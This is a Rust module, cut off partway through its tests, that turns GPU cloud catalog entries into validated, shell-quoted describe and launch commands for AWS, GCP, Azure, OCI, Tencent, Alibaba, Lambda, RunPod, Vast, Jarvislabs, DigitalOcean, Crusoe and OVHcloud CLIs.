//! The provider's own command line for an offer: a command that lists or describes its instance
//! type, and one that launches it, for the offer detail view's copy button.
//!
//! A command is only offered when its syntax was checked against the provider's documentation
//! and the catalog names a real instance type of that provider; descriptive catalog names
//! ("1x H100", "NVIDIA HGX H100 (8 GPU)") get no command rather than a wrong one. Catalog
//! regions that are not the CLI's region ids ("global", "cn-unspecified", "NY2") become a
//! `<region>` placeholder. What the user must supply (image, key, subnet…) is an
//! angle-bracket placeholder too.
//!
//! The text is pasted into a shell, so every name taken from the catalog is checked against the
//! provider's naming rules before use, and is shell-quoted as well when it is interpolated.

/// Commands for one offer, in the provider's own CLI.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct CliCommand {
    /// The CLI program, e.g. "aws", "gcloud", "az", "oci", "tccli", "aliyun", "runpodctl",
    /// "vastai"; "curl" where the provider has an API but no official CLI (Lambda).
    pub tool: &'static str,
    /// Where the CLI is documented (official docs page URL).
    pub docs: &'static str,
    /// A command that lists/describes this instance type (and its price or availability where
    /// the CLI can).
    pub describe: String,
    /// A command that launches one instance of it, with placeholders in angle brackets for what
    /// the user must fill in, or None when the provider has no CLI launch.
    pub launch: Option<String>,
}

/// The commands for `instance` (the catalog's instance type name) of catalog provider
/// `provider` in catalog region `region`; None for providers without a documented CLI and for
/// names that are not one of the provider's instance types.
pub fn command(provider: &str, instance: &str, region: &str) -> Option<CliCommand> {
    match provider {
        "aws" => aws(instance, region),
        "gcp" => gcp(instance, region),
        "azure" => azure(instance, region),
        "oci" => oci(instance, region),
        "tencent" => tencent(instance, region),
        "alibaba" => alibaba(instance, region),
        "lambda" => lambda(instance, region),
        "runpod" => runpod(instance),
        "vast" => vast(instance),
        "jarvislabs" => jarvislabs(instance),
        "digitalocean" => digitalocean(instance, region),
        "crusoe" => crusoe(instance, region),
        "ovhcloud" => ovhcloud(instance, region),
        // CoreWeave is driven through Kubernetes (kubectl), not an instance CLI; Paperspace's
        // `pspace` can create a machine but documents no way to list machine types or their
        // availability; the rest publish no CLI or the catalog does not name their types.
        _ => None,
    }
}

// ---------------------------------------------------------------------------------------------
// Shell safety and name checks

/// `word` as one shell word: unchanged when it is only `[A-Za-z0-9._-]`, single-quoted otherwise
/// (a single quote inside becomes `'\''`), so nothing in it is expanded or run.
fn shell_word(word: &str) -> String {
    if !word.is_empty() && word.chars().all(is_plain_char) {
        word.to_string()
    } else {
        format!("'{}'", word.replace('\'', r"'\''"))
    }
}

fn is_plain_char(c: char) -> bool {
    c.is_ascii_alphanumeric() || matches!(c, '.' | '_' | '-')
}

/// Only `[A-Za-z0-9._-]`, and not starting with `-`, which a CLI would read as an option.
/// Every catalog name a command uses passes this first, so it can also sit inside the quoted
/// JSON or jq programs below without breaking out of them.
fn is_plain(name: &str) -> bool {
    !name.is_empty() && !name.starts_with('-') && name.chars().all(is_plain_char)
}

fn all(text: &str, allowed: impl Fn(char) -> bool) -> bool {
    !text.is_empty() && text.chars().all(allowed)
}

fn lower_alnum(text: &str) -> bool {
    all(text, |c| c.is_ascii_lowercase() || c.is_ascii_digit())
}

fn lower(text: &str) -> bool {
    all(text, |c| c.is_ascii_lowercase())
}

fn digits(text: &str) -> bool {
    all(text, |c| c.is_ascii_digit())
}

/// Letters then digits: "central1", "east4".
fn letters_then_digits(text: &str) -> bool {
    let letters = text.trim_end_matches(|c: char| c.is_ascii_digit());
    lower(letters) && letters.len() < text.len()
}

/// Catalog regions that stand for "anywhere" or "not stated", never a CLI region.
fn is_pseudo_region(region: &str) -> bool {
    region == "global" || region.ends_with("-unspecified") || region.ends_with("-reference")
}

/// The region as the CLI takes it, or `placeholder` when the catalog region is not one.
fn region_or(region: &str, is_region: fn(&str) -> bool, placeholder: &str) -> String {
    if is_plain(region) && !is_pseudo_region(region) && is_region(region) {
        shell_word(region)
    } else {
        placeholder.to_string()
    }
}

// ---------------------------------------------------------------------------------------------
// Hyperscalers

const AWS_DOCS: &str = "https://docs.aws.amazon.com/cli/latest/reference/ec2/";

/// "p5.48xlarge", "g4dn.xlarge", "u-6tb1.metal".
fn is_aws_instance_type(name: &str) -> bool {
    match name.split_once('.') {
        Some((family, size)) => {
            family.starts_with(|c: char| c.is_ascii_lowercase())
                && all(family, |c| {
                    c.is_ascii_lowercase() || c.is_ascii_digit() || c == '-'
                })
                && all(size, |c| {
                    c.is_ascii_lowercase() || c.is_ascii_digit() || c == '-'
                })
        }
        None => false,
    }
}

/// "us-east-1", "ap-southeast-3", "us-gov-west-1".
fn is_aws_region(region: &str) -> bool {
    let parts: Vec<&str> = region.split('-').collect();
    (3..=4).contains(&parts.len())
        && parts[0].len() == 2
        && lower(parts[0])
        && parts[1..parts.len() - 1].iter().all(|p| lower(p))
        && digits(parts[parts.len() - 1])
}

fn aws(instance: &str, region: &str) -> Option<CliCommand> {
    if !is_plain(instance) || !is_aws_instance_type(instance) {
        return None;
    }
    let instance = shell_word(instance);
    let region = region_or(region, is_aws_region, "<region>");
    Some(CliCommand {
        tool: "aws",
        docs: AWS_DOCS,
        describe: format!(
            "aws ec2 describe-instance-types --instance-types {instance} --region {region}"
        ),
        launch: Some(format!(
            "aws ec2 run-instances --instance-type {instance} --image-id <ami-id> \
             --key-name <key-name> --region {region}"
        )),
    })
}

const GCE_DOCS: &str = "https://cloud.google.com/sdk/gcloud/reference/compute/instances/create";
const TPU_DOCS: &str = "https://cloud.google.com/sdk/gcloud/reference/compute/tpus/tpu-vm/create";

/// "us-central1".
fn is_gcp_region(region: &str) -> bool {
    match region.split_once('-') {
        Some((area, place)) => lower(area) && letters_then_digits(place),
        None => false,
    }
}

/// "us-central1-a".
fn is_gcp_zone(zone: &str) -> bool {
    match zone.rsplit_once('-') {
        Some((region, letter)) => is_gcp_region(region) && letter.len() == 1 && lower(letter),
        None => false,
    }
}

/// GCE machine types and accelerator names: lowercase words joined by hyphens,
/// "a3-highgpu-8g", "nvidia-tesla-t4".
fn is_gcp_name(name: &str) -> bool {
    name.starts_with(|c: char| c.is_ascii_lowercase())
        && name.contains('-')
        && name.split('-').all(lower_alnum)
}

/// GPUs are attached per zone, so the commands need a zone: the catalog's zone when it gives
/// one, otherwise a placeholder naming the region to pick it in.
fn gcp_zone(region: &str) -> String {
    if !is_plain(region) {
        "<zone>".to_string()
    } else if is_gcp_zone(region) {
        shell_word(region)
    } else if is_gcp_region(region) {
        format!("<zone in {region}>")
    } else {
        "<zone>".to_string()
    }
}

/// The accelerator of an N1 + GPU offer's short id ("n1-standard-8-t4-1").
fn n1_accelerator(short: &str) -> Option<&'static str> {
    match short {
        "t4" => Some("nvidia-tesla-t4"),
        "v100" => Some("nvidia-tesla-v100"),
        "p100" => Some("nvidia-tesla-p100"),
        "p4" => Some("nvidia-tesla-p4"),
        _ => None,
    }
}

/// An N1 machine with GPUs attached, named either as the catalog's instance
/// ("n1-standard-8 + 1 x nvidia-tesla-t4") or as its offer id ("n1-standard-8-t4-1").
/// Returns (machine type, accelerator, count).
fn parse_n1_with_gpus(name: &str) -> Option<(String, String, u32)> {
    let (machine, accelerator, count) = match name.split_once(" + ") {
        Some((machine, gpus)) => {
            let (count, accelerator) = gpus.split_once(" x ")?;
            (machine.to_string(), accelerator.to_string(), count)
        }
        None => {
            let (rest, count) = name.rsplit_once('-')?;
            let (machine, short) = rest.rsplit_once('-')?;
            (
                machine.to_string(),
                n1_accelerator(short)?.to_string(),
                count,
            )
        }
    };
    let count: u32 = if digits(count) {
        count.parse().ok()?
    } else {
        return None;
    };
    let well_formed = machine.starts_with("n1-")
        && is_gcp_name(&machine)
        && accelerator.starts_with("nvidia-")
        && is_gcp_name(&accelerator)
        && count > 0;
    well_formed.then_some((machine, accelerator, count))
}

fn gcp(instance: &str, region: &str) -> Option<CliCommand> {
    let zone = gcp_zone(region);
    // TPUs are their own resource, named by accelerator type: "tpu-v5litepod-8" is "v5litepod-8".
    if let Some(accelerator) = instance.strip_prefix("tpu-") {
        let version_and_size = accelerator.split_once('-');
        let is_tpu = is_plain(accelerator)
            && version_and_size.is_some_and(|(version, size)| {
                version.starts_with('v') && lower_alnum(version) && digits(size)
            });
        if !is_tpu {
            return None;
        }
        let accelerator = shell_word(accelerator);
        return Some(CliCommand {
            tool: "gcloud",
            docs: TPU_DOCS,
            describe: format!(
                "gcloud compute tpus tpu-vm accelerator-types describe {accelerator} \
                 --zone={zone}"
            ),
            launch: Some(format!(
                "gcloud compute tpus tpu-vm create <name> --zone={zone} \
                 --accelerator-type={accelerator} --version=<runtime-version>"
            )),
        });
    }
    // N1 machines take their T4/V100 GPUs as a separate accelerator.
    if let Some((machine, accelerator, count)) = parse_n1_with_gpus(instance) {
        let (machine, accelerator) = (shell_word(&machine), shell_word(&accelerator));
        return Some(CliCommand {
            tool: "gcloud",
            docs: GCE_DOCS,
            describe: format!(
                "gcloud compute machine-types describe {machine} --zone={zone} && \
                 gcloud compute accelerator-types describe {accelerator} --zone={zone}"
            ),
            // GPU VMs cannot live-migrate, so host maintenance must stop them.
            launch: Some(format!(
                "gcloud compute instances create <name> --machine-type={machine} \
                 --accelerator=type={accelerator},count={count} \
                 --maintenance-policy=TERMINATE --zone={zone}"
            )),
        });
    }
    // A2, A3, G2…: the GPUs come with the machine type.
    if !is_plain(instance) || !is_gcp_name(instance) {
        return None;
    }
    let machine = shell_word(instance);
    Some(CliCommand {
        tool: "gcloud",
        docs: GCE_DOCS,
        describe: format!("gcloud compute machine-types describe {machine} --zone={zone}"),
        launch: Some(format!(
            "gcloud compute instances create <name> --machine-type={machine} \
             --maintenance-policy=TERMINATE --zone={zone}"
        )),
    })
}

const AZURE_DOCS: &str = "https://learn.microsoft.com/en-us/cli/azure/vm";

/// "eastus", "westeurope", "eastus2".
fn is_azure_region(region: &str) -> bool {
    region.starts_with(|c: char| c.is_ascii_lowercase()) && lower_alnum(region)
}

fn azure(instance: &str, region: &str) -> Option<CliCommand> {
    let is_size = instance
        .strip_prefix("Standard_")
        .is_some_and(|rest| all(rest, |c| c.is_ascii_alphanumeric() || c == '_'));
    if !is_size {
        return None;
    }
    let size = shell_word(instance);
    let location = region_or(region, is_azure_region, "<location>");
    Some(CliCommand {
        tool: "az",
        docs: AZURE_DOCS,
        // list-skus rather than list-sizes: it shows the subscription's restrictions and zones.
        describe: format!("az vm list-skus --location {location} --size {size} --output table"),
        launch: Some(format!(
            "az vm create --resource-group <resource-group> --name <name> --size {size} \
             --image <image> --location {location} --admin-username <admin-username> \
             --generate-ssh-keys"
        )),
    })
}

const OCI_DOCS: &str =
    "https://docs.oracle.com/iaas/tools/oci-cli/latest/oci_cli_docs/cmdref/compute/instance/launch.html";

/// "us-ashburn-1", "eu-frankfurt-1".
fn is_oci_region(region: &str) -> bool {
    let parts: Vec<&str> = region.split('-').collect();
    parts.len() == 3
        && parts[0].len() == 2
        && lower(parts[0])
        && lower(parts[1])
        && digits(parts[2])
}

fn oci(instance: &str, region: &str) -> Option<CliCommand> {
    let is_shape = (instance.starts_with("VM.") || instance.starts_with("BM."))
        && is_plain(instance)
        && !instance.ends_with('.');
    if !is_shape {
        return None;
    }
    let region = region_or(region, is_oci_region, "<region>");
    // The shape goes inside a double-quoted JMESPath string; is_plain keeps it from closing it.
    let filter = format!("data[?shape=='{instance}']");
    let shape = shell_word(instance);
    Some(CliCommand {
        tool: "oci",
        docs: OCI_DOCS,
        describe: format!(
            "oci --region {region} compute shape list --compartment-id <compartment-ocid> \
             --all --query \"{filter}\""
        ),
        launch: Some(format!(
            "oci --region {region} compute instance launch \
             --availability-domain <availability-domain> --compartment-id <compartment-ocid> \
             --shape {shape} --subnet-id <subnet-ocid> --image-id <image-ocid> \
             --ssh-authorized-keys-file <public-key-file>"
        )),
    })
}

// ---------------------------------------------------------------------------------------------
// China clouds

const TENCENT_DOCS: &str = "https://www.tencentcloud.com/document/api/213/33260";

/// "ap-guangzhou", "na-siliconvalley", "ap-shanghai-fsi".
fn is_tencent_region(region: &str) -> bool {
    let parts: Vec<&str> = region.split('-').collect();
    (2..=3).contains(&parts.len())
        && parts[0].len() == 2
        && lower(parts[0])
        && lower(parts[1])
        && parts.get(2).is_none_or(|p| *p == "fsi")
}

/// Tencent sells in zones ("ap-guangzhou-3") of regions ("ap-guangzhou"); the catalog may give
/// either. Returns the region and zone arguments, placeholders where unknown.
fn tencent_place(region: &str) -> (String, String) {
    if is_plain(region) && !is_pseudo_region(region) {
        if let Some((parent, number)) = region.rsplit_once('-') {
            if digits(number) && is_tencent_region(parent) {
                return (parent.to_string(), region.to_string());
            }
        }
        if is_tencent_region(region) {
            return (region.to_string(), format!("<zone in {region}>"));
        }
    }
    ("<region>".to_string(), "<zone>".to_string())
}

/// "GN10Xp.2XLARGE40", "PNV4.7XLARGE116".
fn is_tencent_instance_type(name: &str) -> bool {
    match name.split_once('.') {
        Some((family, size)) => {
            family.starts_with(|c: char| c.is_ascii_uppercase())
                && all(family, |c| c.is_ascii_alphanumeric())
                && all(size, |c| c.is_ascii_uppercase() || c.is_ascii_digit())
        }
        None => false,
    }
}

fn tencent(instance: &str, region: &str) -> Option<CliCommand> {
    if !is_plain(instance) || !is_tencent_instance_type(instance) {
        return None;
    }
    let (region, zone) = tencent_place(region);
    // Region, zone and type are plain names or placeholders, so they can sit in the
    // single-quoted JSON that tccli takes for structured parameters.
    let type_filter = format!(r#"{{"Name":"instance-type","Values":["{instance}"]}}"#);
    let filters = if zone.starts_with('<') {
        format!("[{type_filter}]")
    } else {
        format!(r#"[{{"Name":"zone","Values":["{zone}"]}},{type_filter}]"#)
    };
    let placement = format!(r#"{{"Zone":"{zone}"}}"#);
    let instance = shell_word(instance);
    Some(CliCommand {
        tool: "tccli",
        docs: TENCENT_DOCS,
        describe: format!(
            "tccli cvm DescribeInstanceTypeConfigs --region {region} --Filters '{filters}'"
        ),
        launch: Some(format!(
            "tccli cvm RunInstances --region {region} --Placement '{placement}' \
             --InstanceType {instance} --ImageId <image-id> \
             --InstanceChargeType POSTPAID_BY_HOUR --InstanceCount 1 \
             --LoginSettings '{{\"KeyIds\":[\"<key-id>\"]}}'"
        )),
    })
}

const ALIBABA_DOCS: &str =
    "https://www.alibabacloud.com/help/en/ecs/developer-reference/api-ecs-2014-05-26-describeinstancetypes";

/// "cn-hangzhou", "ap-southeast-1", "us-west-1".
fn is_alibaba_region(region: &str) -> bool {
    let parts: Vec<&str> = region.split('-').collect();
    (2..=3).contains(&parts.len())
        && parts[0].len() == 2
        && lower(parts[0])
        && lower(parts[1])
        && parts.get(2).is_none_or(|p| digits(p))
}

/// "ecs.gn7i-c8g1.2xlarge", "ecs.vgn6i-m4-vws.xlarge".
fn is_alibaba_instance_type(name: &str) -> bool {
    let parts: Vec<&str> = name.split('.').collect();
    parts.len() == 3
        && parts[0] == "ecs"
        && parts[1].split('-').all(lower_alnum)
        && lower_alnum(parts[2])
}

fn alibaba(instance: &str, region: &str) -> Option<CliCommand> {
    if !is_plain(instance) || !is_alibaba_instance_type(instance) {
        return None;
    }
    let instance = shell_word(instance);
    let region = region_or(region, is_alibaba_region, "<region-id>");
    Some(CliCommand {
        tool: "aliyun",
        docs: ALIBABA_DOCS,
        // aliyun passes list parameters as numbered flags: InstanceTypes.1, InstanceTypes.2…
        describe: format!("aliyun ecs DescribeInstanceTypes --InstanceTypes.1 {instance}"),
        launch: Some(format!(
            "aliyun ecs RunInstances --RegionId {region} --InstanceType {instance} \
             --ImageId <image-id> --SecurityGroupId <security-group-id> \
             --VSwitchId <vswitch-id> --KeyPairName <key-pair-name> \
             --InstanceChargeType PostPaid --Amount 1"
        )),
    })
}

// ---------------------------------------------------------------------------------------------
// GPU clouds

const LAMBDA_DOCS: &str = "https://docs-api.lambda.ai/api/cloud";
const LAMBDA_API: &str = "https://cloud.lambda.ai/api/v1";

/// "us-east-1", "europe-central-1".
fn is_lambda_region(region: &str) -> bool {
    let parts: Vec<&str> = region.split('-').collect();
    parts.len() >= 3
        && parts[..parts.len() - 1].iter().all(|p| lower(p))
        && digits(parts[parts.len() - 1])
}

fn lambda(instance: &str, region: &str) -> Option<CliCommand> {
    // "gpu_8x_h100_sxm5"; it is also a jq key and a JSON string below, so nothing else passes.
    let is_type = instance.strip_prefix("gpu_").is_some_and(|rest| {
        rest.split_once("x_").is_some_and(|(count, model)| {
            digits(count)
                && all(model, |c| {
                    c.is_ascii_lowercase() || c.is_ascii_digit() || c == '_'
                })
        })
    });
    if !is_type {
        return None;
    }
    let region = region_or(region, is_lambda_region, "<region>");
    // Lambda has an HTTP API but no official CLI; the key stays in the user's environment.
    let auth = r#"--fail --user "${LAMBDA_API_KEY}:""#;
    let body = format!(
        r#"{{"region_name":"{region}","instance_type_name":"{instance}","ssh_key_names":["<ssh-key-name>"],"quantity":1}}"#
    );
    Some(CliCommand {
        tool: "curl",
        docs: LAMBDA_DOCS,
        // The list carries each type's price and the regions with capacity right now.
        describe: format!("curl {auth} {LAMBDA_API}/instance-types | jq '.data.{instance}'"),
        launch: Some(format!(
            "curl {auth} --request POST {LAMBDA_API}/instance-operations/launch \
             --header 'Content-Type: application/json' --data '{body}'"
        )),
    })
}

const RUNPOD_DOCS: &str = "https://docs.runpod.io/runpodctl/reference/runpodctl-pod";

/// RunPod's GPU ids for the short names in SkyPilot-style catalog instances ("1x_H100-SXM_SECURE"),
/// as listed in RunPod's GPU types reference.
fn runpod_gpu_id(short: &str) -> Option<&'static str> {
    Some(match short {
        "MI300X" => "AMD Instinct MI300X OAM",
        "A100-80GB" => "NVIDIA A100 80GB PCIe",
        "A100-80GB-SXM" => "NVIDIA A100-SXM4-80GB",
        "A30" => "NVIDIA A30",
        "A40" => "NVIDIA A40",
        "B200" => "NVIDIA B200",
        "H100" => "NVIDIA H100 PCIe",
        "H100-SXM" => "NVIDIA H100 80GB HBM3",
        "H100-NVL" => "NVIDIA H100 NVL",
        "H200-SXM" => "NVIDIA H200",
        "L4" => "NVIDIA L4",
        "L40" => "NVIDIA L40",
        "L40S" => "NVIDIA L40S",
        "RTX3090" => "NVIDIA GeForce RTX 3090",
        "RTX4090" => "NVIDIA GeForce RTX 4090",
        "RTX5090" => "NVIDIA GeForce RTX 5090",
        "RTX4000-Ada" => "NVIDIA RTX 4000 Ada Generation",
        "RTX6000-Ada" => "NVIDIA RTX 6000 Ada Generation",
        "RTXA4000" => "NVIDIA RTX A4000",
        "RTXA4500" => "NVIDIA RTX A4500",
        "RTXA5000" => "NVIDIA RTX A5000",
        "RTXA6000" => "NVIDIA RTX A6000",
        _ => return None,
    })
}

/// "8x_H100-SXM_SECURE", also when the catalog quotes it after "SkyPilot " in a longer name.
/// Returns (GPU id, count, cloud type).
fn parse_runpod(instance: &str) -> Option<(&'static str, u32, &'static str)> {
    let id = match instance.split_once("SkyPilot ") {
        Some((_, rest)) => rest.split_whitespace().next()?,
        None => instance,
    };
    let (count, rest) = id.split_once("x_")?;
    let (gpu, tier) = rest.rsplit_once('_')?;
    let cloud = match tier {
        "SECURE" => "SECURE",
        "COMMUNITY" => "COMMUNITY",
        _ => return None,
    };
    let count: u32 = if digits(count) {
        count.parse().ok()?
    } else {
        return None;
    };
    Some((runpod_gpu_id(gpu)?, count, cloud))
}

fn runpod(instance: &str) -> Option<CliCommand> {
    let (gpu_id, count, cloud) = parse_runpod(instance)?;
    Some(CliCommand {
        tool: "runpodctl",
        docs: RUNPOD_DOCS,
        describe: format!(
            "runpodctl gpu list --include-unavailable | jq '.[] | select(.gpuId == \"{gpu_id}\")'"
        ),
        launch: Some(format!(
            "runpodctl pod create --name <name> --image <image> --gpu-id {} --gpu-count {count} \
             --cloud-type {cloud}",
            shell_word(gpu_id)
        )),
    })
}

const VAST_DOCS: &str = "https://docs.vast.ai/cli/reference/create-instance";

fn vast(instance: &str) -> Option<CliCommand> {
    // SkyPilot-style "1x-H100_SXM-32-65536": count, Vast's own gpu_name, vCPUs, RAM.
    let mut parts = instance.split('-');
    let count = parts.next()?.strip_suffix('x')?;
    let gpu_name = parts.next()?;
    let is_offer = digits(count)
        && all(gpu_name, |c| c.is_ascii_alphanumeric() || c == '_')
        && parts.clone().count() == 2
        && parts.all(digits);
    if !is_offer {
        return None;
    }
    // A marketplace: an offer is a host's listing, found by query and rented by its id.
    Some(CliCommand {
        tool: "vastai",
        docs: VAST_DOCS,
        describe: format!("vastai search offers 'gpu_name={gpu_name} num_gpus={count}'"),
        launch: Some(
            "vastai create instance <offer-id> --image <image> --disk <disk-gb> --ssh".to_string(),
        ),
    })
}

const JARVISLABS_DOCS: &str = "https://docs.jarvislabs.ai/cli";

/// The `jl --gpu` types for the catalog's Jarvislabs names.
fn jarvislabs_gpu(name: &str) -> Option<&'static str> {
    Some(match name {
        "NVIDIA H100 SXM" => "H100",
        "NVIDIA H200 SXM" => "H200",
        "NVIDIA A100 80GB" => "A100-80GB",
        "NVIDIA A100 40GB" => "A100",
        "NVIDIA L4" => "L4",
        "A6000" => "A6000",
        _ => return None,
    })
}

fn jarvislabs(instance: &str) -> Option<CliCommand> {
    let gpu = jarvislabs_gpu(instance)?;
    Some(CliCommand {
        tool: "jl",
        docs: JARVISLABS_DOCS,
        describe: format!("jl gpus --json | jq '.[] | select(.gpu_type == \"{gpu}\")'"),
        launch: Some(format!("jl create --gpu {} --name <name>", shell_word(gpu))),
    })
}

const DIGITALOCEAN_DOCS: &str =
    "https://docs.digitalocean.com/reference/doctl/reference/compute/droplet/create/";

/// "nyc2", "tor1", "atl1".
fn is_digitalocean_region(region: &str) -> bool {
    region.len() == 4 && letters_then_digits(region)
}

fn digitalocean(instance: &str, region: &str) -> Option<CliCommand> {
    // Size slugs: "gpu-h100x1-80gb".
    let is_slug = instance.starts_with("gpu-") && instance.split('-').all(lower_alnum);
    if !is_slug {
        return None;
    }
    let region = region_or(region, is_digitalocean_region, "<region>");
    let size = shell_word(instance);
    Some(CliCommand {
        tool: "doctl",
        docs: DIGITALOCEAN_DOCS,
        describe: format!(
            "doctl compute size list --output json | jq '.[] | select(.slug == \"{instance}\")'"
        ),
        launch: Some(format!(
            "doctl compute droplet create <name> --size {size} --image <image> \
             --region {region} --ssh-keys <ssh-key-id>"
        )),
    })
}

const CRUSOE_DOCS: &str = "https://docs.crusoecloud.com/reference/cli/crusoe_compute_vms_create";

/// "us-east1-a".
fn is_crusoe_location(location: &str) -> bool {
    is_gcp_zone(location)
}

fn crusoe(instance: &str, region: &str) -> Option<CliCommand> {
    // VM types: "h100-80gb-sxm-ib.8x", "a40.1x".
    let is_type = instance.split_once('.').is_some_and(|(model, size)| {
        model.split('-').all(lower_alnum) && size.strip_suffix('x').is_some_and(digits)
    });
    if !is_type {
        return None;
    }
    let location = region_or(region, is_crusoe_location, "<location>");
    let vm_type = shell_word(instance);
    Some(CliCommand {
        tool: "crusoe",
        docs: CRUSOE_DOCS,
        describe: format!("crusoe compute vms types | grep -F {vm_type}"),
        launch: Some(format!(
            "crusoe compute vms create --name <name> --type {vm_type} --location {location} \
             --image <image> --keyfile <public-key-file>"
        )),
    })
}

const OVHCLOUD_DOCS: &str =
    "https://docs.openstack.org/python-openstackclient/latest/cli/command-objects/server.html";

/// OpenStack region names at OVHcloud: "GRA11", "BHS5", "WAW1".
fn is_ovhcloud_region(region: &str) -> bool {
    let letters = region.trim_end_matches(|c: char| c.is_ascii_digit());
    (2..=4).contains(&letters.len())
        && all(letters, |c| c.is_ascii_uppercase())
        && letters.len() < region.len()
}

fn ovhcloud(instance: &str, region: &str) -> Option<CliCommand> {
    // OVHcloud Public Cloud is OpenStack; GPU flavors are "h100-380", "l4-90", "t1-le-45".
    let is_flavor = instance.starts_with(|c: char| c.is_ascii_lowercase())
        && instance.contains('-')
        && instance.split('-').all(lower_alnum);
    if !is_flavor {
        return None;
    }
    let region = region_or(region, is_ovhcloud_region, "<region>");
    let flavor = shell_word(instance);
    // The openstack client reads global options such as --os-region-name before the command.
    Some(CliCommand {
        tool: "openstack",
        docs: OVHCLOUD_DOCS,
        describe: format!("openstack --os-region-name {region} flavor show {flavor}"),
        launch: Some(format!(
            "openstack --os-region-name {region} server create --flavor {flavor} \
             --image <image> --key-name <key-name> --network <network> <name>"
        )),
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    fn both(c: &CliCommand) -> (&str, &str) {
        (c.describe.as_str(), c.launch.as_deref().unwrap_or(""))
    }

    #[test]
    fn aws_describes_and_runs_the_instance_type_in_its_region() {
        let c = command("aws", "p5.48xlarge", "us-east-1").unwrap();
        assert_eq!(c.tool, "aws");
        assert_eq!(
            both(&c),
            (
                "aws ec2 describe-instance-types --instance-types p5.48xlarge --region us-east-1",
                "aws ec2 run-instances --instance-type p5.48xlarge --image-id <ami-id> \
                 --key-name <key-name> --region us-east-1"
            )
        );
    }

    #[test]
    fn gcp_gpu_machine_types_need_a_zone_in_the_region() {
        let c = command("gcp", "a3-highgpu-8g", "us-central1").unwrap();
        assert_eq!(
            both(&c),
            (
                "gcloud compute machine-types describe a3-highgpu-8g --zone=<zone in us-central1>",
                "gcloud compute instances create <name> --machine-type=a3-highgpu-8g \
                 --maintenance-policy=TERMINATE --zone=<zone in us-central1>"
            )
        );
        let zoned = command("gcp", "g2-standard-4", "europe-west4-a").unwrap();
        assert!(zoned.describe.ends_with("--zone=europe-west4-a"));
    }

    #[test]
    fn gcp_n1_offers_attach_their_gpus_by_id_or_instance_name() {
        let launch = "gcloud compute instances create <name> --machine-type=n1-standard-8 \
                      --accelerator=type=nvidia-tesla-t4,count=1 \
                      --maintenance-policy=TERMINATE --zone=<zone in us-east1>";
        let by_id = command("gcp", "n1-standard-8-t4-1", "us-east1").unwrap();
        assert_eq!(by_id.launch.as_deref(), Some(launch));
        assert_eq!(
            by_id.describe,
            "gcloud compute machine-types describe n1-standard-8 --zone=<zone in us-east1> && \
             gcloud compute accelerator-types describe nvidia-tesla-t4 --zone=<zone in us-east1>"
        );
        let by_name = command("gcp", "n1-standard-8 + 1 x nvidia-tesla-t4", "us-east1").unwrap();
        assert_eq!(by_name, by_id);
        let v100 = command("gcp", "n1-standard-16-v100-4", "global").unwrap();
        assert!(v100
            .launch
            .unwrap()
            .contains("--accelerator=type=nvidia-tesla-v100,count=4"));
    }

    #[test]
    fn gcp_tpus_are_created_as_tpu_vms_by_accelerator_type() {
        let c = command("gcp", "tpu-v5litepod-8", "us-west4").unwrap();
        assert_eq!(c.docs, TPU_DOCS);
        assert_eq!(
            both(&c),
            (
                "gcloud compute tpus tpu-vm accelerator-types describe v5litepod-8 \
                 --zone=<zone in us-west4>",
                "gcloud compute tpus tpu-vm create <name> --zone=<zone in us-west4> \
                 --accelerator-type=v5litepod-8 --version=<runtime-version>"
            )
        );
        assert!(command("gcp", "tpu-v6e-1", "global")
            .unwrap()
            .describe
            .contains("describe v6e-1 --zone=<zone>"));
    }

    #[test]
    fn azure_lists_the_sku_and_creates_a_vm_of_that_size() {
        let c = command("azure", "Standard_ND96isr_H100_v5", "eastus").unwrap();
        assert_eq!(
            both(&c),
            (
                "az vm list-skus --location eastus --size Standard_ND96isr_H100_v5 --output table",
                "az vm create --resource-group <resource-group> --name <name> \
                 --size Standard_ND96isr_H100_v5 --image <image> --location eastus \
                 --admin-username <admin-username> --generate-ssh-keys"
            )
        );
        let global = command("azure", "Standard_NC24ads_A100_v4", "global").unwrap();
        assert!(global.describe.contains("--location <location>"));
    }

    #[test]
    fn oci_filters_the_shape_list_and_launches_the_shape() {
        let c = command("oci", "BM.GPU.H100.8", "global").unwrap();
        assert_eq!(
            both(&c),
            (
                "oci --region <region> compute shape list --compartment-id <compartment-ocid> \
                 --all --query \"data[?shape=='BM.GPU.H100.8']\"",
                "oci --region <region> compute instance launch \
                 --availability-domain <availability-domain> \
                 --compartment-id <compartment-ocid> --shape BM.GPU.H100.8 \
                 --subnet-id <subnet-ocid> --image-id <image-ocid> \
                 --ssh-authorized-keys-file <public-key-file>"
            )
        );
        // Price-list parts are not shapes.
        assert_eq!(
            command(
                "oci",
                "OCI - Compute - GPU - B200 (price-list part B110978, billed per GPU-hour)",
                "global"
            ),
            None
        );
    }

    #[test]
    fn tencent_splits_a_catalog_zone_into_region_and_placement() {
        let c = command("tencent", "GN10Xp.2XLARGE40", "ap-guangzhou-3").unwrap();
        assert_eq!(
            both(&c),
            (
                r#"tccli cvm DescribeInstanceTypeConfigs --region ap-guangzhou --Filters '[{"Name":"zone","Values":["ap-guangzhou-3"]},{"Name":"instance-type","Values":["GN10Xp.2XLARGE40"]}]'"#,
                r#"tccli cvm RunInstances --region ap-guangzhou --Placement '{"Zone":"ap-guangzhou-3"}' --InstanceType GN10Xp.2XLARGE40 --ImageId <image-id> --InstanceChargeType POSTPAID_BY_HOUR --InstanceCount 1 --LoginSettings '{"KeyIds":["<key-id>"]}'"#
            )
        );
        let reference = command("tencent", "GN7.2XLARGE32", "cn-reference").unwrap();
        assert_eq!(
            reference.describe,
            r#"tccli cvm DescribeInstanceTypeConfigs --region <region> --Filters '[{"Name":"instance-type","Values":["GN7.2XLARGE32"]}]'"#
        );
        assert_eq!(
            command("tencent", "SCF GPU function, GN7 (1x T4)", "cn-reference"),
            None
        );
    }

    #[test]
    fn alibaba_describes_by_numbered_list_flag_and_runs_in_a_region() {
        let c = command("alibaba", "ecs.gn7i-c8g1.2xlarge", "cn-hangzhou").unwrap();
        assert_eq!(
            both(&c),
            (
                "aliyun ecs DescribeInstanceTypes --InstanceTypes.1 ecs.gn7i-c8g1.2xlarge",
                "aliyun ecs RunInstances --RegionId cn-hangzhou --InstanceType ecs.gn7i-c8g1.2xlarge \
                 --ImageId <image-id> --SecurityGroupId <security-group-id> \
                 --VSwitchId <vswitch-id> --KeyPairName <key-pair-name> \
                 --InstanceChargeType PostPaid --Amount 1"
            )
        );
